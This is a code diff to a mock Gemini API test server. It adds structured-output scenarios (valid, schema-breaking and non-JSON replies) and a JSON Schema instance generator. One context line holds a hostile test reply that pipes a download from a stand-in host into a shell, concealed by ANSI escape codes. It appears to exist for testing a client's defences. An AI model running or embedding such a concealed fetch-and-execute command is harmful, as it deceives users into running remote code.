@@ -183,12 +183,43 @@ class Handler(BaseHTTPRequestHandler):
             words = sum(len(p.get("text", "").split()) for c in request.get("contents", []) for p in c.get("parts", []))
             self.send_json(200, json.dumps({"totalTokens": words}, indent=2).encode())
             return
+        config = request.get("generationConfig", {})
+        if method in ("generateContent", "streamGenerateContent") and ("responseJsonSchema" in config or "responseSchema" in config):
+            if config.get("responseMimeType") != "application/json":
+                # Google's answer for a schema without the JSON MIME type.
+                self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
+                                                          "message": "Invalid JSON payload received. response_mime_type must be application/json when a response schema is set."}}, indent=2).encode())
+                return
+            if scenario.startswith("structured"):
+                return self.structured(method, scenario, config["responseJsonSchema"])
         if method == "generateContent":
             self.unary(model, scenario, request)
         elif method == "streamGenerateContent" and "alt=sse" in self.path:
             self.stream(model, scenario, request)
         else:
             self.send_json(404, fixture("error-not-found.json").replace(b"{MODEL}", model.encode()))
+
+    def structured(self, method, scenario, schema):
+        """A reply in JSON made from the request's schema ("structured"); one that breaks it
+        ("structured-wrong": a required member left out, or the wrong type); or not JSON at
+        all ("structured-text"). Streamed in pieces, as Gemini streams JSON."""
+        value = schema_instance(schema, schema)
+        if scenario == "structured-wrong":
+            required = schema.get("required") or []
+            if isinstance(value, dict) and required:
+                del value[required[0]]
+            else:
+                value = "not what the schema asks"
+        text = "Sure! Here it is:" if scenario == "structured-text" else json.dumps(value, ensure_ascii=False, indent=1)
+        usage = {"promptTokenCount": 12, "candidatesTokenCount": 20, "totalTokenCount": 32}
+        if method == "generateContent":
+            self.send_json(200, json.dumps(text_chunk(text, "STOP", usage), indent=2).encode())
+            return
+        self.start_stream()
+        for start in range(0, len(text), 7):
+            self.chunk(event(text_chunk(text[start:start + 7])))
+        self.chunk(event(text_chunk("", "STOP", usage)))
+        self.end_stream()
 
     standard_keys = "reject-401"
 
@@ -500,6 +531,41 @@ STREAMED_REPLIES = {
 }
 
 
+def schema_instance(schema, root):
+    """A value the JSON Schema accepts: the first enum value, required members, one item."""
+    if not isinstance(schema, dict):
+        return None
+    if "$ref" in schema:
+        node = root
+        for name in schema["$ref"][2:].split("/"):
+            node = node[name]
+        return schema_instance(node, root)
+    if "const" in schema:
+        return schema["const"]
+    if "enum" in schema:
+        return schema["enum"][0]
+    for combined in ("anyOf", "oneOf", "allOf"):
+        if combined in schema:
+            return schema_instance(schema[combined][0], root)
+    kind = schema.get("type", "object")
+    if isinstance(kind, list):
+        kind = next((k for k in kind if k != "null"), "null")
+    if kind == "object":
+        properties = schema.get("properties", {})
+        return {name: schema_instance(properties.get(name, {"type": "string"}), root) for name in schema.get("required", list(properties))}
+    if kind == "array":
+        return [schema_instance(schema.get("items", {"type": "string"}), root) for _ in range(max(1, schema.get("minItems", 1)))]
+    if kind == "string":
+        return "東京タワー"[:max(1, schema.get("maxLength", 5))] if not schema.get("minLength") else "x" * schema["minLength"]
+    if kind == "integer":
+        return int(schema.get("minimum", 3))
+    if kind == "number":
+        return schema.get("minimum", 2.5)
+    if kind == "boolean":
+        return True
+    return None
+
+
 def echo_reply(request):
     contents = request.get("contents", [])
     parts = contents[-1]["parts"] if contents else []
@@ -526,7 +592,7 @@ HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u2
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
-             "other-finish", "thinking-only", "cut-event"} | set(HOSTILE)
+             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text"} | set(HOSTILE)
 
 
 def main():
